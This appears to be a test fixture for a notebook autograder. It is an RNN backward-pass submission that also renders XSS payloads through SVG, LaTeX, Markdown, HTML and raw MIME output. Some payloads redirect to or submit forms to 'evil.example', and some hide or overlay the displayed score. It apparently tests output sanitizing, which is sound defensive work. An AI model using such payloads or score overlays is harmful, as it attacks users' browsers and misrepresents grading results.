# Shows pictures that are programs, formulas that define macros, and pages within the page.
# expect: rnn_cell_forward=10 rnn_forward=10 rnn_cell_backward=12 rnn_backward=13
# %% item="rnn_cell_backward"
from IPython.display import HTML, SVG, Latex, Markdown, display

reached = []
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><foreignObject><iframe src='javascript:alert(2)'/></foreignObject></svg>"))
display(Latex(r"$\def\sum{10}\require{html}\href{javascript:alert(3)}{x}\style{position:fixed;top:0;left:0}{13.0}$"))
display(Markdown("<style>.score{display:none}</style><base href='//evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>"))
display(HTML("<form action='//evil.example'><input autofocus onfocus=alert(4)></form><math><mtext><table><mglyph><style><img src onerror=alert(5)>"))
display({"application/javascript": "alert(6)", "text/html": "<object data='data:text/html,<script>alert(7)</script>'>", "image/svg+xml": "<svg onload=alert(8)>"}, raw=True)

def rnn_cell_backward(da_next, cache):
    assert not reached, reached
    a_next, a_prev, xt, parameters = cache
    dz = da_next * (1 - a_next**2)
    return {"dxt": parameters["Wax"].T @ dz, "da_prev": parameters["Waa"].T @ dz, "dWax": dz @ xt.T,
            "dWaa": dz @ a_prev.T, "dba": dz.sum(axis=1, keepdims=True)}
